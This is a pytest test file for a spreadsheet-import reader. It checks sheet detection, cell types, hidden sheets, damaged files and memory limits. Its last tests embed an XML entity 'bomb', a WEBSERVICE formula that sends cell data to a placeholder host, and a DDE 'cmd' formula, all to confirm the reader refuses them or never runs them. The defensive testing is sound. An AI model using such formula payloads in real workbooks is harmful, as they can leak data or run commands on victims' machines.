from __future__ import annotations

import zipfile
from datetime import datetime, time, timedelta
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter  # type: ignore[import-untyped]

from revloop.sources.reading import Format, read_file

from .folders import only_refusal, only_table, read, rows_of, values_of

SHEET = "xl/worksheets/sheet1.xml"
ROOT = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "exports"
    made.mkdir()
    return made


def workbook(path: Path, **sheets: list[list[Any]]) -> Path:
    with xlsxwriter.Workbook(path, {"default_date_format": "yyyy-mm-dd hh:mm"}) as made:
        for name, rows in sheets.items():
            sheet = made.add_worksheet(name)
            for number, row in enumerate(rows):
                sheet.write_row(number, 0, row)
    return path


def with_sheet(path: Path, xml: str) -> Path:
    """The same workbook with another XML for its first sheet."""
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, xml if name == SHEET else content)
    return path


def test_each_sheet_is_a_table(folder: Path) -> None:
    workbook(folder / "book.xlsx", Leads=[["id"], [1], [2]], Deals=[["key"], ["a"]], Empty=[])

    reading = read(folder)

    assert [table.name for table in reading.tables] == ["book.xlsx/Deals", "book.xlsx/Leads"]
    assert [values_of(table) for table in reading.tables] == [[["a"]], [[1], [2]]]
    assert reading.ignored == ("book.xlsx/Empty",)


def test_values_keep_their_types(folder: Path) -> None:
    day, moment = datetime(2026, 1, 31), datetime(2026, 1, 31, 9, 30)  # noqa: DTZ001
    workbook(
        folder / "book.xlsx",
        S=[
            ["whole", "part", "yes", "at", "text", "mixed", "nothing"],
            [1, 1.5, True, day, "A1", 7, None],
            [2, 2, False, moment, "007", "seven", None],
            [None, 3, None, None, " padded ", True, None],
        ],
    )

    table = only_table(read(folder))

    assert values_of(table) == [
        [1, 1.5, True, day, "A1", "7", None],
        [2, 2.0, False, moment, "007", "seven", None],
        [None, 3.0, None, None, " padded ", "TRUE", None],
    ]


def test_times_and_spans_are_text(folder: Path) -> None:
    path = folder / "book.xlsx"
    with xlsxwriter.Workbook(path) as made:
        sheet = made.add_worksheet()
        sheet.write_row(0, 0, ["at", "for"])
        sheet.write_datetime(1, 0, time(9, 30), made.add_format({"num_format": "hh:mm"}))
        span = made.add_format({"num_format": "[h]:mm:ss"})
        sheet.write_datetime(1, 1, timedelta(hours=26, minutes=30), span)

    assert values_of(only_table(read(folder))) == [["09:30:00", "26:30:00"]]


def test_rows_keep_their_numbers_below_a_title(folder: Path) -> None:
    workbook(
        folder / "book.xlsx",
        S=[["Leads by source"], [], ["id", "name", "id"], [1, "Ann", 1], [], [2, "Bob", 2]],
    )

    table = only_table(read(folder))

    assert table.columns == ("id", "name", "id (2)")
    assert [row["row_number"] for row in rows_of(table)] == [4, 6]
    assert table.found["header"] == "row 3"
    assert table.found["above the header"] == "Leads by source"


def test_a_hidden_sheet_is_read_and_said(folder: Path) -> None:
    with xlsxwriter.Workbook(folder / "book.xlsx") as made:
        made.add_worksheet("Shown").write_row(0, 0, ["id"])
        hidden = made.add_worksheet("Codes")
        hidden.write_column(0, 0, ["code", "A"])
        hidden.hide()

    codes, shown = read(folder).tables

    assert codes.found["hidden"] == "yes"
    assert "hidden" not in shown.found


def test_excel_errors_are_counted_and_empty(folder: Path) -> None:
    with xlsxwriter.Workbook(folder / "book.xlsx") as made:
        sheet = made.add_worksheet()
        sheet.write_column(0, 0, ["id", 1])
        sheet.write_column(0, 1, ["value"])
        sheet.write_formula(1, 1, "=NA()", None, "#N/A")
        sheet.write_formula(2, 1, "=NA()", None, "#N/A")

    table = only_table(read(folder))

    assert values_of(table) == [[1, None]]
    assert table.found["errors"].startswith("2 cells")


def test_what_is_said_of_a_sheet_is_believed(folder: Path, tmp_path: Path) -> None:
    path = workbook(folder / "book.xlsx", A=[["x", "y"], ["id", "n"], [1, 2]], B=[["id"], [1]])

    only_a = read_file(path, tmp_path / "staged", said=Format(sheet="A", header_row=2))
    missing = read_file(path, tmp_path / "staged", said=Format(sheet="C"))
    by_name = read(folder, **{"book.xlsx/A": Format(header_row=2)})

    assert only_table(only_a).columns == ("id", "n")
    assert only_a.ignored == ("book.xlsx/B",)
    assert "has no sheet 'C'" in only_refusal(missing)
    assert [table.columns for table in by_name.tables] == [("id", "n"), ("id",)]


@pytest.mark.parametrize("dimension", ['<dimension ref="A1:B1"/>', ""])
def test_a_false_dimension_is_not_believed(dimension: str, folder: Path) -> None:
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="B{n}"><v>0.5</v></c></row>'
        for n in range(2, 5_001)
    )
    names = '<row r="1"><c r="A1" t="str"><v>id</v></c><c r="B1" t="str"><v>part</v></c></row>'
    path = workbook(folder / "book.xlsx", S=[["a"]])
    with_sheet(path, f"{ROOT}{dimension}<sheetData>{names}{rows}</sheetData></worksheet>")

    assert only_table(read(folder)).rows == 4_999


@pytest.mark.parametrize("prefix", ["", "x:"])
def test_the_names_of_the_xml_may_have_a_prefix(prefix: str, folder: Path) -> None:
    path = workbook(folder / "book.xlsx", S=[["a"]])
    cells = "".join(
        f'<p:row r="{n}" spans="1:1"><p:c r="A{n}" t="inlineStr"><p:is><p:t>{text}</p:t></p:is>'
        "</p:c></p:row>"
        for n, text in enumerate(["name", "Ann", "Bob"], start=1)
    )
    root = ROOT.replace("<worksheet xmlns", "<p:worksheet xmlns:p")
    xml = f"{root}<p:sheetData>{cells}</p:sheetData></p:worksheet>"
    with_sheet(path, xml.replace(":p=", "=" if not prefix else ":x=").replace("p:", prefix))

    assert values_of(only_table(read(folder))) == [["Ann"], ["Bob"]]


def test_rows_that_hide_each_other_are_counted(folder: Path) -> None:
    path = workbook(folder / "book.xlsx", S=[["a"]])
    twice = '<row r="2"><c r="A2"><v>1</v></c></row><row r="2"><c r="A2"><v>2</v></c></row>'
    first = '<row r="1"><c r="A1" t="str"><v>id</v></c></row>'
    with_sheet(path, f"{ROOT}<sheetData>{first}{twice}</sheetData></worksheet>")

    said = only_refusal(read(folder))

    assert "book.xlsx/S holds 3 rows, but 2 could be read" in said


def test_rows_of_empty_texts_are_no_rows(folder: Path) -> None:
    path = workbook(folder / "book.xlsx", S=[["id"], ["a"]])
    with zipfile.ZipFile(path) as archive:
        strings = archive.read("xl/sharedStrings.xml").decode()
        xml = archive.read(SHEET).decode()
    row = '<row r="3"><c r="A3" t="s"><v>2</v></c></row><row r="4"><c r="A4" t="s"/></row>'
    with_sheet(path, xml.replace("</sheetData>", f"{row}</sheetData>"))
    with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("xl/sharedStrings.xml", strings.replace("</sst>", "<si><t/></si></sst>"))

    assert values_of(only_table(read(folder))) == [["a"]]


def test_one_cell_at_the_far_corner_is_refused(folder: Path) -> None:
    path = workbook(folder / "book.xlsx", S=[["a"]])
    corner = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    with_sheet(path, f"{ROOT}<sheetData>{corner}</sheetData></worksheet>")

    assert "reaches over 17,179,869,184 cells" in only_refusal(read(folder))


def test_a_reader_that_is_aborted_refuses_only_its_file(folder: Path) -> None:
    """The cells stand in a wrong order, so that the reach is not seen beforehand."""
    path = workbook(folder / "book.xlsx", S=[["a"]])
    corner = (
        '<row r="1"><c r="B1"><v>1</v></c></row><row r="1048576">'
        '<c r="A1048576"><v>1</v></c><c r="XFD1048576"><v>1</v></c><c r="B1048576"><v>1</v></c></row>'
    )
    with_sheet(path, f"{ROOT}<sheetData>{corner}</sheetData></worksheet>")
    workbook(folder / "other.xlsx", S=[["id"], [1]])

    reading = read(folder)

    [refused] = reading.refused
    assert str(refused) == (
        "book.xlsx needs more than 512 MB of memory to read: it may be damaged "
        "(save it again or as CSV)"
    )
    assert [values_of(table) for table in reading.tables] == [[[1]]]


@pytest.mark.parametrize("keep", [0.3, 0.9])
def test_half_a_workbook_is_refused(keep: float, folder: Path) -> None:
    path = workbook(folder / "book.xlsx", S=[["id", n] for n in range(500)])
    content = path.read_bytes()
    path.write_bytes(content[: int(len(content) * keep)])

    assert "is damaged" in only_refusal(read(folder))


def test_a_damaged_sheet_costs_only_itself(folder: Path) -> None:
    path = workbook(folder / "book.xlsx", A=[["id"], [1]], B=[["id"], [2]])
    with_sheet(path, f"{ROOT}<sheetData><row r='1'></c></sheetData>")

    reading = read(folder)

    assert [table.name for table in reading.tables] == ["book.xlsx/B"]
    assert "is damaged" in str(reading.refused[0])


def test_entities_in_the_xml_are_refused(folder: Path) -> None:
    path = workbook(folder / "book.xlsx", S=[["id"], [1]])
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/workbook.xml").decode()
    bomb = xml.replace("<workbook", '<!DOCTYPE a [<!ENTITY a "aaaa">]><workbook', 1)
    with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("xl/workbook.xml", bomb)

    assert only_refusal(read(folder))


def test_a_text_file_may_be_named_like_a_workbook(folder: Path) -> None:
    (folder / "export.xls").write_text("id\tname\n1\tAnn\n", encoding="utf-8")
    (folder / "page.xls").write_text("<html><table></table></html>", encoding="utf-8")

    reading = read(folder)

    assert [values_of(table) for table in reading.tables] == [[["1", "Ann"]]]
    assert "is a web page" in str(reading.refused[0])


def test_a_formula_is_what_it_last_said_and_is_never_run(folder: Path) -> None:
    with xlsxwriter.Workbook(folder / "book.xlsx") as made:
        sheet = made.add_worksheet("S")
        sheet.write_row(0, 0, ["id", "said"])
        sheet.write_number(1, 0, 1)
        sheet.write_formula(1, 1, "=1+1", None, 7)
        sheet.write_number(2, 0, 2)
        sheet.write_formula(2, 1, '=WEBSERVICE("http://example.invalid/"&A1)', None, 8)
        sheet.write_number(3, 0, 3)
        sheet.write_formula(3, 1, "=cmd|' /C calc'!A0", None, 9)

    assert values_of(only_table(read(folder))) == [[1, 7], [2, 8], [3, 9]]
